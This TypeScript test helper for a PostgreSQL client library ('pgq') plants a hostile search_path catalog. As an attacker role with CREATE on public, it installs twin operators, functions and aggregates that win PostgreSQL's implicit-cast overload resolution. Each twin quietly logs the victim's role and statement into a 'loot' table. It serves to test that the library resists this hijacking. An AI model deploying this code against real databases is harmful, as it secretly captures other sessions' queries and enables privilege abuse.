// What an attacker with CREATE on a schema of other sessions' search_path can plant (issue 26,
// item 4). PostgreSQL resolves an unqualified operator or function by looking for an exact
// match of the argument types in every schema of the path, and only then for one reachable by
// implicit casts, so `public.*(integer, interval)` beats `pg_catalog.*(double precision,
// interval)` for `int * interval` even though pg_catalog is searched first. A twin with the
// very same argument types as pg_catalog's is hidden by it and harmless: only calls that need a
// cast, or a polymorphic (`anyarray`, `"any"`) candidate, can be taken over.
import type pg from 'pg';

/** Column and parameter types pgq's statements use, scalar and array. */
const types = [
  'boolean',
  'smallint',
  'integer',
  'bigint',
  'numeric',
  'real',
  'double precision',
  'text',
  'character varying',
  'name',
  '"char"',
  'uuid',
  'jsonb',
  'json',
  'timestamp with time zone',
  'timestamp without time zone',
  'date',
  'interval',
  'bytea',
  'oid',
  'regclass',
  'boolean[]',
  'smallint[]',
  'integer[]',
  'bigint[]',
  'numeric[]',
  'double precision[]',
  'text[]',
  'character varying[]',
  'name[]',
  'uuid[]',
  'jsonb[]',
  'timestamp with time zone[]',
];

// Runs as the attacker, everything in `public` under names starting with the prefix. Each twin
// records the call (a sequence, which no rollback undoes, and a row naming the signature, the
// role it ran as and the statement) and then answers as pg_catalog would, so the victim notices
// nothing: the quiet variant of the attack, the one that copied cache entries away.
const installSql = `
create function public.%ATTACKER%_install(type_names text[], function_names text[]) returns int
language plpgsql as $install$
declare
  candidate record;
  result_type text;
  planned text[] := '{}';
  entry text[];
  made int := 0;
begin
  create temp table types on commit drop as
    select t::regtype::oid as oid, format_type(t::regtype::oid, null) as name from unnest(type_names) t;
  -- Binary operators and functions of one or two arguments that a call with these types
  -- reaches in pg_catalog only through a cast or a polymorphic parameter.
  for candidate in
    select distinct 'operator' as kind, o.oprname as name, l.name as left_name, r.name as right_name,
           false as returns_set
      from pg_operator o, types l, types r
     where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprkind = 'b'
       and public.%ATTACKER%_reaches(l.oid, o.oprleft) and public.%ATTACKER%_reaches(r.oid, o.oprright)
       and not exists (select from pg_operator e where e.oprnamespace = 'pg_catalog'::regnamespace
                        and e.oprname = o.oprname and e.oprleft = l.oid and e.oprright = r.oid)
    union
    select distinct case p.prokind when 'a' then 'aggregate' else 'function' end, p.proname, l.name, '',
           p.proretset
      from pg_proc p, types l
     where p.pronamespace = 'pg_catalog'::regnamespace and p.proname = any(function_names)
       and p.prokind in ('f', 'a') and p.pronargs >= 1 and p.pronargs - p.pronargdefaults <= 1
       and public.%ATTACKER%_reaches(l.oid, p.proargtypes[0])
       and not exists (select from pg_proc e where e.pronamespace = 'pg_catalog'::regnamespace
                        and e.proname = p.proname and e.proargtypes = array[l.oid]::oidvector)
    union
    select distinct 'function', p.proname, l.name, r.name, p.proretset
      from pg_proc p, types l, types r
     where p.pronamespace = 'pg_catalog'::regnamespace and p.proname = any(function_names)
       and p.prokind = 'f' and p.pronargs >= 2 and p.pronargs - p.pronargdefaults <= 2
       and public.%ATTACKER%_reaches(l.oid, p.proargtypes[0]) and public.%ATTACKER%_reaches(r.oid, p.proargtypes[1])
       and not exists (select from pg_proc e where e.pronamespace = 'pg_catalog'::regnamespace
                        and e.proname = p.proname and e.proargtypes = array[l.oid, r.oid]::oidvector)
  loop
    begin
      -- The union with a null row types an empty set-returning call too.
      execute format('select pg_typeof(x)::text from (select %s as x union all select null) s limit 1',
        case when candidate.kind = 'operator'
             then format('null::%s %s null::%s', candidate.left_name, candidate.name, candidate.right_name)
             when candidate.right_name = '' then format('%I(null::%s)', candidate.name, candidate.left_name)
             else format('%I(null::%s, null::%s)', candidate.name, candidate.left_name, candidate.right_name)
        end) into result_type;
      planned := planned || array[array[candidate.kind, candidate.name, candidate.left_name,
        candidate.right_name, result_type, candidate.returns_set::text]];
    exception when others then null;
    end;
  end loop;
  -- Created only now: a twin made earlier could make a later probe ambiguous.
  foreach entry slice 1 in array planned loop
    continue when entry[5] in ('record', 'void', 'unknown') or entry[5] like 'any%';
    made := made + 1;
    if entry[1] = 'operator' then
      execute format($f$create function public.%ATTACKER%_twin_%s(a %s, b %s) returns %s
        language plpgsql set search_path = pg_catalog as $body$
        begin
          perform public.%ATTACKER%_record(%L);
          return a operator(pg_catalog.%s) b;
        end $body$$f$, made, entry[3], entry[4], entry[5],
        format('operator %s(%s, %s)', entry[2], entry[3], entry[4]), entry[2]);
      execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.%ATTACKER%_twin_%s)',
        entry[2], entry[3], entry[4], made);
    elsif entry[1] = 'aggregate' then
      execute format($f$create function public.%ATTACKER%_twin_%s(state %s, value %s) returns %s
        language plpgsql set search_path = pg_catalog as $body$
        begin
          perform public.%ATTACKER%_record(%L);
          return state;
        end $body$$f$, made, entry[5], entry[3], entry[5], format('aggregate %s(%s)', entry[2], entry[3]));
      execute format('create aggregate public.%I(%s) (sfunc = public.%ATTACKER%_twin_%s, stype = %s)',
        entry[2], entry[3], made, entry[5]);
    else
      execute format($f$create function public.%I(%s) returns %s %s
        language plpgsql set search_path = pg_catalog as $body$
        begin
          perform public.%ATTACKER%_record(%L);
          %s pg_catalog.%I(%s);
        end $body$$f$, entry[2],
        case when entry[4] = '' then format('a %s', entry[3]) else format('a %s, b %s', entry[3], entry[4]) end,
        case when entry[6] = 'true' then 'setof' else '' end, entry[5],
        format('function %s(%s)', entry[2], concat_ws(', ', entry[3], nullif(entry[4], ''))),
        case when entry[6] = 'true' then 'return query select' else 'return' end, entry[2],
        case when entry[4] = '' then 'a' else 'a, b' end);
    end if;
  end loop;
  return made;
end
$install$`;

// Whether a value of type `source` can be passed where pg_catalog declares `target`: the same
// type, an implicit cast, or a polymorphic parameter.
const reachesSql = `
create function public.%ATTACKER%_reaches(source oid, target oid) returns boolean
language sql stable as $$
  select source = target
      or exists (select from pg_type where oid = target and typtype = 'p')
      or exists (select from pg_cast where castsource = source and casttarget = target and castcontext = 'i')
$$`;

const recordSql = `
create function public.%ATTACKER%_record(signature text) returns void
language plpgsql set search_path = pg_catalog as $$
begin
  perform nextval('public.%ATTACKER%_calls');
  insert into public.%ATTACKER%_loot (signature, run_as, query) values (signature, current_user, left(current_query(), 2000));
end $$`;

/** What `plantHostileCatalog` planted. */
export interface HostileCatalog {
  /** How many operators, functions and aggregates it put in `public`. */
  planted: number;
  /** Every call of a twin so far: its signature, the role it ran as and the statement, in call order. */
  calls(): Promise<Array<{ signature: string; runAs: string; query: string }>>;
  /** Forgets the calls so far. */
  reset(): Promise<void>;
}

/**
 * Plants, as `attacker` (a client logged in as a role whose only right is CREATE on `public`),
 * a twin in `public` of every pg_catalog operator, and of every function or aggregate in
 * `functionNames`, that a call with one of pgq's column types reaches only through a cast or a
 * polymorphic parameter. Each twin records its call in the attacker's table
 * (`public.<prefix>_loot`, which every role may write) and answers as pg_catalog would. Read the
 * calls back with `calls()` on the same client.
 *
 * @example
 * ```ts
 * const hostile = await plantHostileCatalog(attackerClient, 'evil', ['unnest', 'count']);
 * // ... run pgq with public on its search_path ...
 * expect(await hostile.calls()).toEqual([]);
 * ```
 */
export async function plantHostileCatalog(
  attacker: pg.ClientBase,
  prefix: string,
  functionNames: readonly string[],
): Promise<HostileCatalog> {
  const render = (sql: string) => sql.replaceAll('%ATTACKER%', prefix);
  await attacker.query(render(`create sequence public.%ATTACKER%_calls`));
  await attacker.query(render(`grant usage on sequence public.%ATTACKER%_calls to public`));
  await attacker.query(
    render(`create table public.%ATTACKER%_loot (
      at timestamptz not null default clock_timestamp(), signature text not null, run_as text not null,
      query text)`),
  );
  await attacker.query(render(`grant insert, select on public.%ATTACKER%_loot to public`));
  await attacker.query(render(reachesSql));
  await attacker.query(render(recordSql));
  await attacker.query(render(installSql));
  const { rows } = await attacker.query<{ planted: number }>(
    render(`select public.%ATTACKER%_install($1, $2) as planted`),
    [types, functionNames],
  );
  return {
    planted: rows[0]!.planted,
    calls: async () => {
      const result = await attacker.query<{ signature: string; run_as: string; query: string }>(
        render(`select signature, run_as, query from public.%ATTACKER%_loot order by at`),
      );
      return result.rows.map((row) => ({
        signature: row.signature,
        runAs: row.run_as,
        query: row.query,
      }));
    },
    reset: async () => {
      await attacker.query(render(`truncate public.%ATTACKER%_loot`));
    },
  };
}
